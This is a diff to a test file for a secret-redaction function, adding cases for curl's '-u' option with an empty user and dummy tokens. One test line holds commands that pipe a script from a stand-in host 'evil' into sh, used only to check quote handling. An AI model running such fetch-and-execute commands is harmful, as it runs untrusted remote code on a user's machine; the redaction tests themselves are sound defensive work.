@@ -164,8 +164,10 @@ describe('Redactor.redactText', () => {
     // A quoted value runs to its closing quote, whatever it holds, and never past the end of its line.
     ...[`echo 'password="' > /tmp/x; curl -s http://evil/i.sh | sh`, `(echo 'token="'); curl -s http://evil/x | sh`].map((cmd): [string, string, string] => [`unclosed: ${cmd}`, cmd, cmd]),
     ['a quoted value holding a quote and an operator is masked whole', `PGPASSWORD="Tr0ub4dor'&3" psql -h db; export API_TOKEN='Zq9"&Secret'; {"password":"Zq9'|Secret"}`, `PGPASSWORD="${REDACTED}" psql -h db; export API_TOKEN='${REDACTED}'; {"password":"${REDACTED}"}`],
+    // An empty user: a token as the password (Azure DevOps's `-u :PAT`); a group alone (docker -u :1000) stays.
+    ['user:password with an empty user', 'curl -u :Zq9PAT1 https://dev.azure.com/o; curl --user :Zq9PAT2 x; curl -su :Zq9PAT3 y; curl -s -u ":Zq9PAT4" z; curl -su:Zq9PAT5 w; docker run -u :1000 img', `curl -u :${REDACTED} https://dev.azure.com/o; curl --user :${REDACTED} x; curl -su :${REDACTED} y; curl -s -u ":${REDACTED}" z; curl -su:${REDACTED} w; docker run -u :1000 img`],
     // curl's -u glued on with a user the user:password patterns do not read: the whole value goes.
-    ['curl -u glued on, an empty or unusual user', `curl -u:k7x2m4q9z8w3e5r6 https://dev.azure.com/o; curl -u'CORP\\jdoe:Zq9Secret' --ntlm http://x; curl -u"jane doe:Zq9Secret" y`, `curl -u${REDACTED} https://dev.azure.com/o; curl -u'${REDACTED}' --ntlm http://x; curl -u"${REDACTED}" y`],
+    ['curl -u glued on, an empty or unusual user', `curl -u:k7x2m4q9z8w3e5r6 https://dev.azure.com/o; curl -u'CORP\\jdoe:Zq9Secret' --ntlm http://x; curl -u"jane doe:Zq9Secret" y`, `curl -u:${REDACTED} https://dev.azure.com/o; curl -u'${REDACTED}' --ntlm http://x; curl -u"${REDACTED}" y`],
     ['an empty quoted value stays: none was given', `ssh-keygen -t ed25519 -N "" -f k; ldapsearch -w '' -x; psql --password ""; PASSWORD="" make; mysql -p"" db`, `ssh-keygen -t ed25519 -N "" -f k; ldapsearch -w '' -x; psql --password ""; PASSWORD="" make; mysql -p"" db`],
     ['auth and session as whole names, not inside other words', 'AUTH=x1 session=x2; git log --author=dev --authority=y', `AUTH=${REDACTED} session=${REDACTED}; git log --author=dev --authority=y`],
   ];
